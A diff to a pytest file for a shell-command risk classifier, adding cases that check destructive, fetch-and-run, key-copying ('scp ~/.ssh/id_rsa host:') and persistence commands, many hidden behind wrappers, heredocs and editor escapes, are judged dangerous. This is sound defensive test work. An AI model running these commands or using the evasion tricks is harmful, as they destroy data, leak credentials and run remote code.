@@ -65,7 +65,13 @@ def test_what_is_not_certain_to_read_only_is_never_called_so(command: str) -> No
     ("frobnicate", Risk.CHANGES),
     ("rm -r a", Risk.DANGEROUS), ("rm *", Risk.DANGEROUS), ("rm /etc/hosts", Risk.DANGEROUS),
     ("sudo ls", Risk.DANGEROUS), ("$x y", Risk.DANGEROUS), ("ssh h 'rm -rf x'", Risk.DANGEROUS),
-    ("watch rm -rf x", Risk.DANGEROUS), ("find . -exec rm {} +", Risk.DANGEROUS)])
+    ("watch rm -rf x", Risk.DANGEROUS), ("find . -exec rm {} +", Risk.DANGEROUS),
+    ("docker exec web ls", Risk.CHANGES), ("docker exec web rm -rf x", Risk.DANGEROUS), ("scp f host:", Risk.CHANGES),
+    ("scp ~/.ssh/id_rsa host:", Risk.DANGEROUS), ("crontab -e", Risk.CHANGES), ("crontab f", Risk.DANGEROUS),
+    ("alias ll='ls -la'", Risk.CHANGES), ("alias ls='rm -rf x'", Risk.DANGEROUS), ("pkill firefox", Risk.CHANGES),
+    ("make test", Risk.CHANGES), ("make CC=gcc", Risk.CHANGES), ("vim f", Risk.CHANGES), ("zip a.zip f", Risk.CHANGES),
+    ("tmux new -s work", Risk.CHANGES), ("node -e 'console.log(1)'", Risk.CHANGES),
+    ("cat <<< x", Risk.CHANGES), ("curl -o f h", Risk.CHANGES), ("fakeroot make", Risk.CHANGES)])
 def test_changes_and_danger_are_told_apart(command: str, risk: Risk) -> None:
     verdict = judge(command)
     assert verdict.risk is risk
@@ -73,9 +79,37 @@ def test_changes_and_danger_are_told_apart(command: str, risk: Risk) -> None:
 
 
 @pytest.mark.parametrize("command", [
+    "\"$SHELL\" -c 'rm -rf ~'", "$SHELL -c ls", "curl x | $SHELL", "curl x | \"$SHELL\"",
+    "setpriv --reuid 1 rm -rf x", "linux64 rm -rf x", "setarch x86_64 -R rm -rf x",
+    "/lib64/ld-linux-x86-64.so.2 /bin/rm -rf x", "firejail --quiet rm -rf x", "bwrap --bind / / rm -rf x",
+    "proot -r d rm -rf x", "fakeroot rm -rf x", "xvfb-run -a rm -rf x", "ssh-agent rm -rf x",
+    "dbus-run-session -- rm -rf x", "start-stop-daemon --start --exec /bin/rm -- -rf x", "tmux new -d 'rm -rf x'",
+    "screen -dm rm -rf x", "expect -c 'spawn rm -rf x'", "bash <<< 'rm -rf ~'", "sh <<E\nrm -rf x\nE",
+    "sh <<E\necho $(x) $y\nE", "python3 <<E\nimport os; os.system('x')\nE",
+    "echo 'rm -rf ~' | sh", "printf x | bash -s",
+    "source /dev/stdin <<< 'rm x'", ". /dev/stdin", "bash /dev/fd/3", "echo x | ssh host", "vim -c ':!rm x' f",
+    "vim '+!rm x'", "ex -sc '!rm x'", "ex -s f <<< '!rm x'", "ed -s <<< '!rm x'", "ed -s f <<E\n!rm x\nE",
+    "echo '!x' | ed", "nvim --cmd 'call system(1)'", "emacs --eval '(x)'", "emacs --batch -l x.el",
+    "git submodule foreach 'rm x'", "git submodule --quiet foreach x", "git difftool -x sh",
+    "make SHELL=/tmp/x", "make -f -", "make -f - <<< x", "make --eval='$(shell x)'", "make X='$(shell rm x)'",
+    "zip -TT 'rm x' a.zip f",
+    "zip a.zip f -T -TT 'sh #'", "curl -o y h && sh y", "wget h/y; chmod +x y; ./y",
+    "git clone h x && bash x/install.sh",
+    "ruby -e 'FileUtils.rm_rf \"x\"'", "ruby -e'FileUtils.rm_rf 1'", "node -e 'fs.rmSync(1)'",
+    "node --eval=\"require('fs').rmSync('x')\"", "pkill -9 .", "pkill -u ann", "killall -u ann", "pkill -f '.*'",
+    "cp x ~/.config/systemd/user/x.service", "echo x > $HOME/.config/systemd/user/x.service",
+    "cd ~/.config/systemd/user && cat a > x.timer", "systemctl --user enable x", "echo x >> $HOME/.bashrc",
+    "dbus-send --system --dest=org.freedesktop.login1 /x org.freedesktop.login1.Manager.PowerOff boolean:true",
+    "busctl call x y z Reboot b 1", "npx cowsay", "uvx x", "pipx run x", "npm exec x", "pnpm dlx x"])
+def test_ways_round_a_plain_look_are_dangerous(command: str) -> None:
+    assert judge(command).risk is Risk.DANGEROUS
+
+
+@pytest.mark.parametrize("command", [
     "awk '$3 > 100' f", "awk 'length > 80' f", "awk 'NR>=5 && NR<=10' f", "awk '$1 > 2 {print $1} $2 > 3' f",
     "awk '/a|b/' f", "awk '$1 == 1 || $2 > 2 {print; n++}' f", "find \"$PWD\" -name x", "find $HOME -name '*.txt'",
-    "python3 -V", "git diff -U5", "journalctl -n 5 -u ssh", "base64 -d f", "getent passwd ann", "tar tf a*.tar",
+    "python3 -V", "npx --version",
+    "git diff -U5", "journalctl -n 5 -u ssh", "base64 -d f", "getent passwd ann", "tar tf a*.tar",
     "printf '%s' *", "ls ~/.ssh", "ls -a .*", "wc -l *", "grep -c x *.env.md", "cat $HOME/notes.txt", "lspci -v"])
 def test_what_only_reads_is_not_suspected(command: str) -> None:
     verdict = judge(command)
@@ -83,5 +117,6 @@ def test_what_only_reads_is_not_suspected(command: str) -> None:
 
 
 def test_hostile_texts_are_judged_in_bounded_time() -> None:
-    for command in ("(" * 50_000, "$(" * 5_000, "a|" * 9_000, "'" * 19_999, "`" * 10_001, "\\" * 20_001, "{" * 9_000):
+    for command in ("(" * 50_000, "$(" * 5_000, "a|" * 9_000, "'" * 19_999, "`" * 10_001, "\\" * 20_001, "{" * 9_000,
+                    "tmux " * 3_900, "tmux 'docker \\'x y\\'' " * 700):
         assert judge(command).risk is not Risk.READ_ONLY
